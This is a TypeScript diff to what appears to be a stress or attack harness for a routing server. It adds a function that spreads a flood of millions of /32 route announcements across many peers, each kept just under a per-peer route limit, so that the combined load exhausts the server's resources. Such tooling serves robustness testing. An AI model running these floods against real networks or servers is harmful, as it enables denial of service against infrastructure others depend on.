@@ -67,14 +67,37 @@ export async function shortPrefixes(target: Target, prefixes: number, seconds: n
   for (const peer of [builder, ...made]) peer.leave();
 }
 
-/** `prefixes` IPv4 addresses in one VNI: enough of them use up whatever numbers them. */
+/** `count` IPv4 addresses in one VNI: enough of them use up whatever numbers them. */
 export async function prefixes(target: Target, count: number): Promise<void> {
   const peer = (await AttackingPeer.establish(target)).stayAlive();
+  await announcePrefixes(peer, 0, count);
+  await Bun.sleep(2_000);
+  peer.leave();
+}
+
+/** The same by peers that keep within the limit of routes for each; all leave at once. */
+export async function prefixesOfMany(target: Target, count: number): Promise<void> {
+  const made = await inGroups(Math.ceil(count / ROUTES_PER_PEER), () => AttackingPeer.establish(target));
+  await Promise.all(
+    made.map(async (peer, index) => {
+      peer.stayAlive();
+      const first = index * ROUTES_PER_PEER;
+      await announcePrefixes(peer, first, Math.min(count, first + ROUTES_PER_PEER));
+    }),
+  );
+  await Bun.sleep(2_000);
+  for (const peer of made) peer.leave();
+}
+
+const ROUTES_PER_PEER = 1_000_000;
+
+/** Those with the numbers `from` to `to` - 1; waits until the server has read them. */
+async function announcePrefixes(peer: AttackingPeer, from: number, to: number): Promise<void> {
   const PER_CHUNK = 4_000;
   const one = Uint8Array.from(announce({ vni: 78, prefix: word(0x20000000), lengthBits: 32, hop: hop(1) }));
   const addressAt = Buffer.from(one).indexOf(Buffer.from([18, 4, 0x20])) + 2;
-  for (let first = 0; first < count && !peer.closed; first += PER_CHUNK) {
-    const frames = Math.min(PER_CHUNK, count - first);
+  for (let first = from; first < to && !peer.closed; first += PER_CHUNK) {
+    const frames = Math.min(PER_CHUNK, to - first);
     const chunk = new Uint8Array(frames * one.length);
     const view = new DataView(chunk.buffer);
     for (let i = 0; i < frames; i++) {
@@ -83,10 +106,10 @@ export async function prefixes(target: Target, count: number): Promise<void> {
     }
     peer.write(chunk);
     await peer.drained();
+    // Others of this process get their turn.
+    await Bun.sleep(0);
   }
   await peer.fence();
-  await Bun.sleep(2_000);
-  peer.leave();
 }
 
 /** A route in each of `count` VNIs. */
